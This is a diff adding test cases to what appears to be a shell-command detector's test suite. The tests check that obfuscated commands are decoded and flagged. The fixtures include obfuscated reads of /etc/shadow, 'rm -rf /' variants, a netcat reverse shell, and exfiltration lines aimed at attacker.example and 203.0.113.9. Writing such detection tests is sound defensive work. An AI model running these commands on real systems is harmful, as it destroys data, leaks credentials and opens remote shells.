@@ -30,6 +30,8 @@ describe("shell view: each trick undone", () => {
     ["ANSI-C hex", "$'\\x63\\x61\\x74' /etc/passwd", "cat /etc/passwd"],
     ["ANSI-C octal", "$'\\143\\141\\164' /etc/passwd", "cat /etc/passwd"],
     ["globs over well-known paths", "/???/c?t /???/p??s??", "/bin/cat /etc/passwd"],
+    ["bracket classes over well-known paths", "/b[i]n/c[a]t /e[t]c/sha*ow", "/bin/cat /etc/shadow"],
+    ["adjacent quoted fragments", `"r""m" -"r""f" /h"om"e/*`, "rm -rf /home/*"],
     ["printf substitution", "$(printf '\\x63\\x61\\x74') /etc/passwd", "cat /etc/passwd"],
     ["printf %s with arguments", "$(printf %s ca t) /etc/passwd", "cat /etc/passwd"],
     ["echo substitution", "who`echo am`i", "whoami"],
@@ -88,6 +90,8 @@ describe("shell view: disguised commands are detected, spans on the original", (
     ["quoted nslookup", "n's'lookup $(id|base64).attacker.example", "data_exfiltration", "data_exfiltration.dns.command_in_hostname"],
     ["escaped wget upload", "w\\g\\et --post-file=/e\\tc/pa\\sswd http://203.0.113.9/", "data_exfiltration", "data_exfiltration.http.send_sensitive"],
     ["combined: IFS, quotes, braces, ANSI-C", "{$'\\x63at',/e't'c/pa''sswd}|c\\url${IFS}-d${IFS}@-${IFS}http://203.0.113.9/x", "code_execution", "code_execution.credential_read.system_files"],
+    ["bracket-class netcat shell", ";/b[i]n/n[c] -e /b[i]n/sh 10.0.0.5 4444", "code_execution", "code_execution.reverse_shell.netcat"],
+    ["rm split into quoted fragments", `;"r""m" -"r""f" /`, "code_execution", "code_execution.destructive.rm_root"],
     ["combined: glob, rev, IFS into netcat", "$(rev<<<'tac')$IFS$9/???/p??s??|/???/?c${IFS}203.0.113.9${IFS}4444", "data_exfiltration", "data_exfiltration.netcat.file"],
   ])("%s", (_name, text, category, rule) => {
     const hits = findings(text, category as Category);
@@ -124,6 +128,9 @@ describe("shell view: ordinary scripts stay quiet", () => {
     ["upper-casing with tr", "echo hello | tr a-z A-Z"],
     ["positional arguments", `greet() { echo "Hello, $1"; }; greet "$@"`],
     ["Windows path in prose", "The log is at C:\\Users\\alice\\AppData\\Local\\app\\log.txt."],
+    ["array indexing", "x = rows[i].name; y = grid[0][1]; z = a[k]b"],
+    ["two quoted arguments", `echo "a" "b" > /tmp/out.txt`],
+    ["a bracket glob over files", "ls /var/log/syslog.[0-9].gz"],
   ])("%s", (_name, text) => {
     expect(findings(text)).toEqual([]);
   });
